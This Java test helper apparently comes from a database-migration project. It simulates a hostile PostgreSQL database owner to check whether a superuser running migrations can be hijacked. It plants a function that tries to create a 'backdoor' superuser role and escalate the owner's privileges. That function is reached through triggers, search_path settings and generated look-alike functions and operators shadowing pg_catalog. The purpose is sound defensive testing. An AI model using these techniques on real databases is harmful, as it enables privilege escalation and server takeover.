package org.learnflow.db.testing;

import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * What the owner of a database can plant in it so that whoever else runs a statement there runs the
 * owner's code: look-alikes of functions and operators, triggers, and settings. All of it calls
 * {@code attack()}, which tries to make superusers and to write where only a superuser can, and
 * counts how often it was called.
 *
 * @param database whose owner is hostile
 */
public record HostileTenant(TestDatabase database) {
  /** The role that an attack makes where it can. */
  public static final String BACKDOOR = "backdoor";

  private static final Pattern CALL = Pattern.compile("\\b([a-z_][a-z0-9_]*)\\s*\\(");
  private static final Pattern OPERATOR = Pattern.compile("[-+*/<>=~!@#%^&|`?]+");

  /** What our queries hand to functions and operators. */
  private static final List<String> TYPES =
      List.of("text", "name", "oid", "int4", "int8", "\"char\"", "regclass");

  private static final List<String> MORE_TYPES =
      List.of("bool", "regrole", "text[]", "name[]", "aclitem[]", "jsonb", "oid[]");

  /** What planted code has written where only a superuser can: settings of the superuser's role. */
  public List<String> canary() throws SQLException {
    return elsewhere(
        "SELECT setconfig::text FROM pg_db_role_setting WHERE setrole = 'postgres'::regrole");
  }

  /** How often planted code was run at all. */
  public long attacks() throws SQLException {
    return Long.parseLong(
        database
            .query("SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM public.attempts")
            .getFirst());
  }

  /** Attributes, memberships and owners of everything that belongs to the whole server. */
  public List<String> server() throws SQLException {
    return elsewhere(
        """
                SELECT concat_ws(' ', 'role', rolname, rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls)
                FROM pg_roles WHERE rolname !~ '^pg_'
                UNION ALL
                SELECT concat_ws(' ', 'member', m.member::regrole, 'of', m.roleid::regrole)
                FROM pg_auth_members m WHERE m.member >= 16384
                UNION ALL
                SELECT concat_ws(' ', 'database', datname, datdba::regrole) FROM pg_database
                WHERE datname !~ '_before_restore_'
                ORDER BY 1
        """);
  }

  /** As the superuser, who in the hostile database would run what is planted there, too. */
  private List<String> elsewhere(String query) throws SQLException {
    List<String> facts = new ArrayList<>();
    try (Connection admin = database.connect(PostgresServer.ADMIN, "postgres");
        Statement statement = admin.createStatement();
        ResultSet row = statement.executeQuery(query)) {
      while (row.next()) {
        facts.add(row.getString(1));
      }
    }
    return facts;
  }

  /** As the owner: the code that all else calls. */
  public void plantAttack() throws SQLException {
    database.execute(
        database.owner(),
        """
        CREATE SEQUENCE public.attempts;
        GRANT ALL ON SEQUENCE public.attempts TO PUBLIC;
        CREATE FUNCTION public.attack() RETURNS boolean LANGUAGE plpgsql AS $attack$
        BEGIN
          IF pg_catalog.current_setting('attack.busy', true) OPERATOR(pg_catalog.=) 'yes'::pg_catalog.text THEN
            RETURN true;
          END IF;
          PERFORM pg_catalog.set_config('attack.busy', 'yes', false);
          PERFORM pg_catalog.nextval('public.attempts'::pg_catalog.regclass);
          BEGIN
            EXECUTE pg_catalog.concat('ALTER ROLE postgres SET attack.by = ', pg_catalog.quote_literal(session_user));
          EXCEPTION WHEN OTHERS THEN NULL;
          END;
          BEGIN
            EXECUTE 'CREATE ROLE %1$s SUPERUSER LOGIN';
          EXCEPTION WHEN OTHERS THEN NULL;
          END;
          BEGIN
            EXECUTE 'ALTER ROLE "%2$s" SUPERUSER';
          EXCEPTION WHEN OTHERS THEN NULL;
          END;
          PERFORM pg_catalog.set_config('attack.busy', 'no', false);
          RETURN true;
        END $attack$;
        CREATE FUNCTION public.attack_by_trigger() RETURNS trigger LANGUAGE plpgsql AS $attack$
        BEGIN
          PERFORM public.attack();
          RETURN NEW;
        END $attack$
        """
            .formatted(BACKDOOR, database.owner()));
  }

  /**
   * As the owner: a trigger on each table of the migrator's and of Flyway's, and on one of users.
   */
  public void plantTriggers() throws SQLException {
    List<String> tables =
        database.query(
            "SELECT format('%I.%I', schemaname, tablename) FROM pg_catalog.pg_tables"
                + " WHERE schemaname = 'learnflow_db' OR tablename IN ('flyway_schema_history', 'users')");
    for (String table : tables) {
      database.execute(
          database.owner(),
          "CREATE TRIGGER attack BEFORE INSERT OR UPDATE ON %s FOR EACH ROW EXECUTE FUNCTION public.attack_by_trigger()"
              .formatted(table));
    }
  }

  /**
   * As the owner: settings of the database and its own roles that change what names and texts mean.
   */
  public void plantSettings() throws SQLException {
    database.execute(
        database.owner(),
        """
        ALTER DATABASE "%1$s" SET search_path = public, pg_catalog;
        ALTER DATABASE "%1$s" SET transform_null_equals = on;
        ALTER DATABASE "%1$s" SET quote_all_identifiers = on
        """
            .formatted(database.name()));
  }

  /**
   * As the owner: look-alikes in schema public of every function and operator that statements use,
   * one for each combination of types that pg_catalog has none for.
   *
   * @param statements as the server has logged them
   * @return how many were made
   */
  public int plantLookAlikes(List<String> statements) throws SQLException {
    Set<String> words = new TreeSet<>();
    Set<String> signs = new TreeSet<>();
    for (String statement : statements) {
      String bare = statement.replaceAll("'(?:[^']|'')*'", "''").replaceAll("--.*", "");
      Matcher call = CALL.matcher(bare);
      while (call.find()) {
        words.add(call.group(1));
      }
      Matcher operator = OPERATOR.matcher(bare);
      while (operator.find()) {
        signs.add(operator.group());
      }
    }
    int made = 0;
    try (Connection owner = database.connect(database.owner());
        Statement statement = owner.createStatement()) {
      statement.execute("SET check_function_bodies = off; SET search_path = pg_catalog");
      for (String sql : functions(statement, words)) {
        made += tried(statement, sql);
      }
      for (String sql : operators(statement, signs)) {
        made += tried(statement, sql);
      }
    }
    return made;
  }

  /** Some combinations are the same twice, or no possible operator. */
  private static int tried(Statement statement, String sql) {
    try {
      statement.execute(sql);
      return 1;
    } catch (SQLException e) {
      return 0;
    }
  }

  private static Set<String> functions(Statement statement, Set<String> words) throws SQLException {
    Set<String> sqls = new LinkedHashSet<>();
    try (ResultSet row =
        statement.executeQuery(
            """
            SELECT DISTINCT proname, pronargs, provariadic <> 0, format_type(prorettype, NULL),
                   string_to_array(oidvectortypes(proargtypes), ', ')
            FROM pg_proc
            WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset
              AND pronargs > 0 AND prorettype::regtype::text !~ '^any|internal|trigger'
              AND proname IN (%s)
            """
                .formatted(
                    words.stream().map(w -> "'" + w + "'").collect(Collectors.joining(", "))))) {
      while (row.next()) {
        String name = row.getString(1);
        boolean variadic = row.getBoolean(3);
        int arity = row.getInt(2);
        String[] own = (String[]) row.getArray(5).getArray();
        List<List<String>> combinations = new ArrayList<>();
        if (variadic) {
          for (int n = 1; n <= 5; n++) {
            combinations.addAll(combinations(n, List.of("text", "name")));
          }
        } else if (arity == 1) {
          combinations.addAll(combinations(1, TYPES));
          combinations.addAll(combinations(1, MORE_TYPES));
        } else if (arity == 2) {
          combinations.addAll(combinations(2, TYPES));
        } else if (arity == 3) {
          combinations.addAll(combinations(3, List.of("text", "name", "oid")));
        }
        for (List<String> types : combinations) {
          StringBuilder call = new StringBuilder();
          for (int i = 0; i < types.size(); i++) {
            call.append(i == 0 ? "$" : ", $").append(i + 1);
            if (!variadic) {
              call.append("::pg_catalog.text::").append(own[i]);
            }
          }
          sqls.add(
              """
              CREATE FUNCTION public.%1$s(%2$s) RETURNS %3$s LANGUAGE plpgsql AS $f$
              BEGIN
                PERFORM public.attack();
                RETURN pg_catalog.%1$s(%4$s);
              END $f$
              """
                  .formatted(name, String.join(", ", types), row.getString(4), call));
        }
      }
    }
    return sqls;
  }

  private static Set<String> operators(Statement statement, Set<String> signs) throws SQLException {
    Set<String> sqls = new LinkedHashSet<>();
    List<String> names = new ArrayList<>();
    try (ResultSet row =
        statement.executeQuery(
            "SELECT DISTINCT oprname FROM pg_operator WHERE oprkind = 'b' AND oprname IN (%s)"
                .formatted(
                    signs.stream()
                        .map(s -> "'" + s.replace("'", "''") + "'")
                        .collect(Collectors.joining(", "))))) {
      while (row.next()) {
        names.add(row.getString(1));
      }
    }
    int number = 0;
    for (String name : names) {
      boolean joins = name.equals("||");
      if (!joins && !name.matches("=|<>|<|>|<=|>=|~|!~|~~|!~~")) {
        continue;
      }
      for (List<String> types : combinations(2, TYPES)) {
        number++;
        sqls.add(
            """
            CREATE FUNCTION public.attack_operator_%1$d(%2$s, %3$s) RETURNS %4$s LANGUAGE plpgsql AS $f$
            BEGIN
              PERFORM public.attack();
              RETURN $1::pg_catalog.text OPERATOR(pg_catalog.%5$s) $2::pg_catalog.text;
            END $f$;
            CREATE OPERATOR public.%5$s (LEFTARG = %2$s, RIGHTARG = %3$s, FUNCTION = public.attack_operator_%1$d)
            """
                .formatted(number, types.get(0), types.get(1), joins ? "text" : "bool", name));
      }
    }
    return sqls;
  }

  private static List<List<String>> combinations(int length, List<String> types) {
    List<List<String>> all = List.of(List.of());
    for (int i = 0; i < length; i++) {
      List<List<String>> longer = new ArrayList<>();
      for (List<String> one : all) {
        for (String type : types) {
          List<String> more = new ArrayList<>(one);
          more.add(type);
          longer.add(more);
        }
      }
      all = longer;
    }
    return all;
  }
}
